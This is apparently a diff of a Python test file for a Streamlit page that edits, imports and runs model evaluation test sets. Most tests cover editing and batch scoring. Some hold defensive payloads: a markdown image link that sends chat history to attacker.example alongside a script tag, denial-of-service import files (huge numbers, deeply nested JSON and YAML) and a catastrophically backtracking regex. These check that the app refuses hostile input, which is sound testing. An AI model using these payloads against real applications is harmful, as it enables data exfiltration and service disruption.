@@ -22,10 +22,11 @@ from lib.context.strategies import Strategy
 from lib.context.tokens import TiktokenCounter
 from lib.core import models
 from lib.store import storage
-from tests.app.conftest import THIS_BROWSER, type_server, visible_text
+from tests.app.conftest import THIS_BROWSER, new_app, type_server, visible_text
 from tests.fake_openai import FakeOpenAI
 
 PAGE = str(Path(__file__).resolve().parents[2] / "pages" / "experiments.py")
+APP = str(Path(__file__).resolve().parents[2] / "app.py")
 FULL = {"name": "Full history", "context": "Full history", "turns": 2, "token budget": 1024,
         "system prompt": "the conversation's", "custom system prompt": "", "model": "", "temperature": None,
         "max reply tokens": None}  # fmt: skip
@@ -42,7 +43,7 @@ def page(
 ) -> AppTest:
     """The Experiments page run once: on test set `set_id` (with two variants) if given, as signed-in
     `user` if given, opened by a `?run=` link if given, with `values` in its session state."""
-    at = AppTest.from_file(PAGE, default_timeout=300)
+    at = new_app(PAGE)
     if set_id is not None:
         at.session_state["exp_set_id"] = set_id
         at.session_state["exp_variant_rows"] = [FULL, NONE]
@@ -123,11 +124,16 @@ def test_a_small_set_on_the_embedded_model_fills_the_grid_and_draws_the_frontier
     assert sorted(logged) == ["experiment · Full history"] * 2 + ["experiment · No history"] * 2
 
 
+def editor(at: AppTest, label: str):
+    """The case editor's field `label` (its key belongs to the set, the case and its revision)."""
+    return next(w for w in [*at.text_area, *at.text_input] if w.label.startswith(label))
+
+
 def test_a_case_is_edited_and_a_bad_check_is_refused_with_the_text_kept():
     set_id = stored_set(TestSet("Edit me", (Case("q1", "Old question?"),)))
     at = page(set_id, "Test set")
-    at.text_area(key="exp_case_question_q1").set_value("What is my name?")
-    at.text_area(key="exp_case_checks_q1").set_value("icontains: ada\nmax-words: 10")
+    editor(at, "Question").set_value("What is my name?")
+    editor(at, "Checks").set_value("icontains: ada\nmax-words: 10")
     button(at, "Save case").click().run()
     assert not at.exception, at.exception
     with storage.opened() as conn:
@@ -135,12 +141,66 @@ def test_a_case_is_edited_and_a_bad_check_is_refused_with_the_text_kept():
     assert case.question == "What is my name?" and [c.describe() for c in case.checks] == [
         "icontains: ada", "max-words: 10",
     ]  # fmt: skip
-    at.text_area(key="exp_case_checks_q1").set_value("regex: (")
+    assert editor(at, "Question").value == "What is my name?"  # the saved case, in its editor
+    editor(at, "Checks").set_value("regex: (")
     button(at, "Save case").click().run()
     assert any("Not saved" in e.value and "does not compile" in e.value for e in at.error)
-    assert at.text_area(key="exp_case_checks_q1").value == "regex: ("  # nothing the user typed is lost
+    assert editor(at, "Checks").value == "regex: ("  # nothing the user typed is lost
     with storage.opened() as conn:
         assert len(store.load_set(conn, set_id, THIS_BROWSER).test_set.case("q1").checks) == 2
+
+
+def promptfoo(*questions: tuple[str, str]) -> bytes:
+    """A promptfoo test file: every import of one names its cases test-1, test-2, …"""
+    tests = [{"vars": {"question": q}, "assert": [{"type": "icontains", "value": v}]} for q, v in questions]
+    return json.dumps({"tests": tests}).encode()
+
+
+def test_a_second_promptfoo_import_opens_and_saves_its_own_cases():
+    """Both imports name their cases test-1, test-2: the editor of B's test-1 shows B's text (not A's,
+    even with A's editor typed into and left unsaved), and Save writes B's text into B."""
+    with FakeOpenAI() as server:  # a backend that starts nothing: the editor is all this test uses
+        at = on_fake(server, stored_set(TestSet("Start", (Case("q1", "Q?"),))), "Test set")
+        _two_imports(at)
+
+
+def _two_imports(at: AppTest) -> None:
+    at.file_uploader[0].set_value(("a.json", promptfoo(("A one?", "alpha"), ("A two?", "a2")), "application/json"))
+    at.run()
+    set_a = at.session_state["exp_set_id"]
+    assert editor(at, "Question").value == "A one?"
+    editor(at, "Question").set_value("A one, edited but not saved")
+    at.file_uploader[0].set_value(("b.json", promptfoo(("B one?", "beta"), ("B two?", "b2")), "application/json"))
+    at.run()
+    assert not at.exception, at.exception
+    set_b = at.session_state["exp_set_id"]
+    assert set_b != set_a and at.selectbox(key="exp_case_pick").value == "test-1"
+    assert (editor(at, "Question").value, editor(at, "Checks").value) == ("B one?", "icontains: beta")
+    editor(at, "Question").set_value("B one, edited?")
+    button(at, "Save case").click().run()
+    assert not at.exception, at.exception
+    with storage.opened() as conn:
+        saved_b = store.load_set(conn, set_b, THIS_BROWSER).test_set.case("test-1")
+        kept_a = store.load_set(conn, set_a, THIS_BROWSER).test_set.case("test-1")
+    assert saved_b.question == "B one, edited?" and [c.describe() for c in saved_b.checks] == ["icontains: beta"]
+    assert kept_a.question == "A one?" and [c.describe() for c in kept_a.checks] == ["icontains: alpha"]
+    # Back on A: its own case, with what was typed into it and not saved.
+    at.selectbox(key="exp_set_id").set_value(set_a).run()
+    assert (editor(at, "Question").value, editor(at, "Checks").value) == (
+        "A one, edited but not saved", "icontains: alpha",
+    )  # fmt: skip
+
+
+def test_a_case_changed_in_another_tab_shows_as_stored_not_as_it_was():
+    """The editor belongs to one revision of its case: saved elsewhere, it shows the stored text."""
+    set_id = stored_set(TestSet("s", (Case("q1", "First?"),)))
+    with FakeOpenAI() as server:
+        at = on_fake(server, set_id, "Test set")
+        assert editor(at, "Question").value == "First?"
+        with storage.opened() as conn:
+            store.save_set(conn, TestSet("s", (Case("q1", "Changed in another tab?"),)), set_id, THIS_BROWSER)
+        at.run()
+    assert editor(at, "Question").value == "Changed in another tab?"
 
 
 def test_an_import_is_taken_whole_or_refused_with_its_line():
@@ -155,6 +215,50 @@ def test_an_import_is_taken_whole_or_refused_with_its_line():
     assert not at.exception, at.exception
     assert any("Imported promptfooconfig: 1 cases" in s.value for s in at.success)
     assert frame_with(at, "asked in")["question"][0] == "Capital of France?"
+
+
+HOSTILE_IMPORTS = [  # each crashed the page with a traceback (the server's paths shown), some after minutes
+    (
+        "s.yaml",
+        f"cases:\n  - question: a\n    turns_ago: {'9' * 5_001}\n",
+        "line 3: a number of more than 4,300 digits",
+    ),
+    ("s.csv", "question,turns_ago\na,²\n", "line 2: turns_ago '²' is not a whole number"),
+    (
+        "p.yaml",
+        "defaultTest:\n  assert: 5\ntests:\n  - vars: {question: a}\n",
+        "line 2: defaultTest.assert must be a list of checks",
+    ),
+    (
+        "s.yaml",
+        "cases:\n" + "".join(" " * (i + 2) + "- \n" for i in range(3_000)),
+        "line 65: lists and mappings nest more than 64 levels deep",
+    ),
+    ("s.json", "[" * 100_000 + "]" * 100_000, "line 1: lists and mappings nest more than 64 levels deep"),
+]
+
+
+@pytest.mark.parametrize(("name", "content", "reason"), HOSTILE_IMPORTS, ids=lambda v: v[:20])
+def test_a_hostile_import_is_refused_by_name_and_line_and_saves_nothing(name, content, reason):
+    at = page(stored_set(TestSet("Start", (Case("q1", "Q?"),))), "Test set")
+    at.file_uploader[0].set_value((name, content.encode(), "application/octet-stream")).run(timeout=60)
+    assert not at.exception, at.exception
+    assert [e.value for e in at.error] == [f"Import refused, nothing was saved: {reason}"]
+    with storage.opened() as conn:
+        assert len(store.list_sets(conn, THIS_BROWSER)) == 1
+
+
+def test_a_turns_ago_no_number_reads_is_refused_in_the_editor_with_the_text_kept():
+    set_id = stored_set(TestSet("Edit me", (Case("q1", "Q?", turns_ago=3),)))
+    at = page(set_id, "Test set")
+    for typed in ("²", "9" * 5_001):
+        editor(at, "Turns ago").set_value(typed)
+        button(at, "Save case").click().run()
+        assert not at.exception, at.exception
+        assert any(e.value.startswith("Not saved (your text is kept in the editor): turns ago") for e in at.error)
+        assert editor(at, "Turns ago").value == typed
+    with storage.opened() as conn:
+        assert store.load_set(conn, set_id, THIS_BROWSER).test_set.case("q1").turns_ago == 3
 
 
 def test_a_run_past_the_cost_limit_waits_for_a_confirmation():
@@ -211,10 +315,72 @@ def test_a_batch_run_is_exported_then_scored_from_its_output_file():
         uploader = next(u for u in at.file_uploader if u.label.startswith("Score a Batch API output file"))
         uploader.set_value(("output.jsonl", output.encode(), "application/jsonl")).run()
         assert not at.exception, at.exception
-    assert any("Scored 4 answers from the batch output" in s.value for s in at.success)
+    assert any("4 answers applied." in s.value for s in at.success)
     grid = frame_with(at, "No history")
     assert list(grid["Full history"]) == ["pass", "fail"] and list(grid["No history"]) == ["pass", "fail"]
     assert "4 of 4 cells finished" in visible_text(at)
+
+
+def _batch_run(server: FakeOpenAI, cases) -> tuple[AppTest, str, list]:
+    at = on_fake(server, stored_set(TestSet("b", cases)))
+    button(at, "Make it a Batch API run instead").click().run()
+    with storage.opened() as conn:
+        (info,) = store.list_runs(conn, THIS_BROWSER)
+        spec = store.load_spec(conn, info.id, THIS_BROWSER)
+    target = Target(models.info_for("fake-model"), TiktokenCounter("o200k_base", False), "fake-model")
+    return at, info.id, planner.plan_cells(spec, lambda _: target)
+
+
+def _upload_output(at: AppTest, cells, spec_variants, answer: str) -> None:
+    output = "\n".join(
+        batch.output_line(c.key, spec_variants, {"choices": [{"index": 0, "finish_reason": "stop", "message": {
+            "role": "assistant", "content": answer}}], "usage": {"prompt_tokens": 1000, "completion_tokens": 10}}, i)
+        for i, c in enumerate(cells)
+    )  # fmt: skip
+    uploader = next(u for u in at.file_uploader if u.label.startswith("Score a Batch API output file"))
+    uploader.set_value(("output.jsonl", output.encode(), "application/jsonl")).run()
+    assert not at.exception, at.exception
+
+
+def test_the_same_batch_output_uploaded_twice_adds_nothing_and_says_so():
+    cases = (Case("c1", "Say yes", Conversation(), (Check("contains", "yes", ignore_case=True),)),
+             Case("c2", "Say no", Conversation(), (Check("contains", "no"),)))  # fmt: skip
+    with FakeOpenAI() as server:
+        at, run_id, cells = _batch_run(server, cases)
+        variants = (Variant("Full history", Strategy("full")), Variant("No history", Strategy("none")))
+        half = [c for c in cells if c.key.case == "c1"]  # the batch answered two of the four cells
+        _upload_output(at, half, variants, "Yes.")
+        first = [s.value for s in at.success]
+        with storage.opened() as conn:
+            calls, cost = len(storage.calls(conn)), sum(c.cost or 0 for c in storage.calls(conn))
+            stored = store.cells(conn, run_id, THIS_BROWSER)
+        _upload_output(at, half, variants, "Yes, again.")
+        with storage.opened() as conn:
+            assert store.cells(conn, run_id, THIS_BROWSER) == stored  # nothing overwritten
+            assert len(storage.calls(conn)) == calls == 2  # the run log: no call twice
+            assert sum(c.cost or 0 for c in storage.calls(conn)) == cost
+    assert any("2 answers applied." in text for text in first)
+    assert [i.value for i in at.info if "already in the run" in i.value] == [
+        "0 answers applied, 2 already in the run, skipped."
+    ]
+    assert "2 of 4 cells finished" in visible_text(at)
+
+
+def test_a_batch_answer_never_overwrites_a_cell_finished_interactively():
+    cases = (Case("c1", "Say yes", Conversation(), (Check("contains", "yes", ignore_case=True),)),
+             Case("c2", "Say no", Conversation(), (Check("contains", "no"),)))  # fmt: skip
+    with FakeOpenAI() as server:
+        at, run_id, cells = _batch_run(server, cases)
+        variants = (Variant("Full history", Strategy("full")), Variant("No history", Strategy("none")))
+        finished = store.CellResult(cells[0].key, "pass", "yes, interactively", (), {}, 10, 10, 1, None, 0.1, 0.0)
+        with storage.opened() as conn:
+            store.record_cell(conn, run_id, finished)
+        _upload_output(at, cells, variants, "no")
+        with storage.opened() as conn:
+            stored = {c.key: c for c in store.cells(conn, run_id, THIS_BROWSER)}
+    assert stored[cells[0].key].answer == "yes, interactively"
+    assert sorted(c.answer for c in stored.values()) == ["no", "no", "no", "yes, interactively"]
+    assert any("3 answers applied, 1 already in the run, skipped." in s.value for s in at.success)
 
 
 HOSTILE = "![x](https://attacker.example/?q=history) <script>alert(1)</script>"
@@ -315,3 +481,120 @@ def test_a_run_another_replica_is_sending_shows_as_running_there_and_offers_no_r
     assert not [b for b in at.button if b.label.startswith(("Resume", "Send the"))]
     at = page(stored_set(TestSet("t", cases)), "Compare runs")
     assert list(frame_with(at, "finished")["status"]) == ["running on another replica"]
+
+
+RUN_CHOICES = {"exp_repeats": 3, "exp_seed": 7, "exp_max_tokens": 99, "exp_temperature": 0.5, "exp_cost_limit": 2.5}
+
+
+def test_every_choice_survives_a_visit_to_another_page():
+    """The section, the test set, the run's settings and a case's unsaved text, after the Chat and the
+    Compare pages: Streamlit drops a widget's value on a page that does not draw it."""
+    with FakeOpenAI() as server:
+        _visit_and_come_back(server)
+
+
+def _visit_and_come_back(server: FakeOpenAI) -> None:
+    kept = stored_set(TestSet("Kept", (Case("q1", "Kept question?"),)))
+    stored_set(TestSet("Newer", (Case("q1", "Newer question?"),)))  # the one the page would open by itself
+    at = AppTest.from_file(APP, default_timeout=300)
+    for key, value in {"provider_kind": "compatible", "base_url": server.base_url,
+                       "compatible_model": "fake-model"}.items():  # fmt: skip
+        at.session_state[key] = value
+    at.run()
+    assert not at.exception, at.exception
+    at.switch_page("pages/experiments.py").run()
+    at.radio(key="exp_section").set_value("Test set").run()
+    at.selectbox(key="exp_set_id").set_value(kept).run()
+    editor(at, "Question").set_value("typed, not saved")
+    at.run()
+    at.radio(key="exp_section").set_value("Run").run()
+    for key, value in RUN_CHOICES.items():
+        at.number_input(key=key).set_value(value)
+    at.run()
+    assert not at.exception, at.exception
+    for elsewhere in ("pages/chat.py", "pages/compare.py"):
+        at.switch_page(elsewhere).run()
+        assert not at.exception, at.exception
+        at.switch_page("pages/experiments.py").run()
+        assert not at.exception, at.exception
+        assert at.radio(key="exp_section").value == "Run"
+        assert {key: at.number_input(key=key).value for key in RUN_CHOICES} == RUN_CHOICES
+        assert any("**Test set:** Kept" in m.value for m in at.markdown)
+    at.radio(key="exp_section").set_value("Test set").run()
+    assert at.selectbox(key="exp_set_id").value == kept
+    assert editor(at, "Question").value == "typed, not saved"
+
+
+def test_the_run_picker_names_a_run_the_same_while_it_runs_and_once_it_is_done():
+    """A browser shows a picked option by the text it had when it was picked: a label carrying the run's
+    status said "running · 0/2 cells" after the run was done. The label holds what never changes; the
+    status and the count beside it are drawn fresh."""
+    cases = (Case("c1", "Say hi", Conversation(), (Check("contains", "fake"),)),)
+    with FakeOpenAI() as server:
+        server.behaviour.delay_s = 1.0  # the first draw sees the run going
+        at = on_fake(server, stored_set(TestSet("s", cases)))
+        button(at, "Run 2 cells").click().run()
+        assert not at.exception, at.exception
+        while_running = at.selectbox(key="exp_run_pick").options
+        assert runner.active(at.session_state["exp_run_id"]) is not None
+        server.behaviour.delay_s = 0.0
+        wait_for_the_run(at, 2, timeout_s=60)
+    assert at.selectbox(key="exp_run_pick").options == while_running
+    assert not any("running" in label or "0/2" in label for label in while_running)
+    assert "**done** · **2 of 2 cells finished**" in visible_text(at)
+
+
+def test_the_variant_editors_edits_fold_into_its_rows_as_streamlit_applies_them():
+    """The variants' table keeps its rows in plain state (kept across pages): each edit is folded in the
+    way st.data_editor applies it (cells edited, rows added at the end, rows deleted by position)."""
+    from ui.experiments_state import with_edits
+
+    rows = [{"name": "a", "turns": 1}, {"name": "b", "turns": 2}, {"name": "c", "turns": 3}]
+    edits = {"edited_rows": {"1": {"turns": 5}}, "added_rows": [{"name": "d"}], "deleted_rows": [0]}
+    assert with_edits(rows, edits, ["name", "turns"]) == [
+        {"name": "b", "turns": 5}, {"name": "c", "turns": 3}, {"name": "d", "turns": None},
+    ]  # fmt: skip
+    assert rows[1]["turns"] == 2  # the rows given are left as they were
+    assert with_edits(rows, None, ["name", "turns"]) == rows
+
+
+def test_a_reply_cut_by_max_tokens_is_flagged_in_the_grid_and_its_cell_says_so():
+    cases = (Case("c1", "Say hi", Conversation(), (Check("contains", "fake"),)),)
+    with FakeOpenAI() as server:
+        server.behaviour.finish_reason = "length"
+        at = on_fake(server, stored_set(TestSet("s", cases)))
+        button(at, "Run 2 cells").click().run()
+        wait_for_the_run(at, 2, timeout_s=60)
+        grid = frame_with(at, "No history")
+        assert list(grid.iloc[0]) == ["pass ⚑", "pass ⚑"]  # scored as it came, and flagged
+        assert "⚑: a reply cut short (max_tokens, content filter)" in visible_text(at)
+        at.session_state["exp_grid"] = {"selection": {"rows": [], "columns": [], "cells": [(0, "Full history")]}}
+        at.run()
+    assert not at.exception, at.exception
+    assert [w.value for w in at.warning if "Cut by max_tokens" in w.value] == [
+        "Cut by max_tokens: the reply stopped at its token limit, not where the model ended it."
+    ]
+
+
+def test_a_regex_that_backtracks_for_ever_is_that_cells_error_and_the_run_finishes(monkeypatch):
+    from lib.analysis.experiments import patterns
+
+    monkeypatch.setattr(patterns, "MATCH_TIMEOUT_S", 1.0)  # the page's run is in this process
+    cases = (Case("c1", "Say a", Conversation(), (Check("regex", r"(?=.)^(.+)+QQQ$"),)),
+             Case("c2", "Say b", Conversation(), (Check("regex", r"^(.+)+QQQ$"),)))  # fmt: skip
+    with FakeOpenAI() as server:
+        server.behaviour.reply = "a" * 40
+        at = on_fake(server, stored_set(TestSet("s", cases)))
+        button(at, "Run 4 cells").click().run()
+        info = wait_for_the_run(at, 4, timeout_s=120)
+        grid = frame_with(at, "No history")
+        at.session_state["exp_grid"] = {"selection": {"rows": [], "columns": [], "cells": [(0, "Full history")]}}
+        at.run()
+    patterns.shutdown()
+    assert not at.exception, at.exception
+    assert info.status == "done"
+    assert list(grid.loc["c1"]) == ["error", "error"]  # `re` only: stopped at its limit
+    assert list(grid.loc["c2"]) == ["fail", "fail"]  # RE2 decides the same nesting: no match
+    verdicts = frame_with(at, "verdict")
+    assert verdicts["verdict"].tolist() == ["undecided"]
+    assert "ran longer than 1 s on this answer and was stopped" in verdicts["why"].iloc[0]
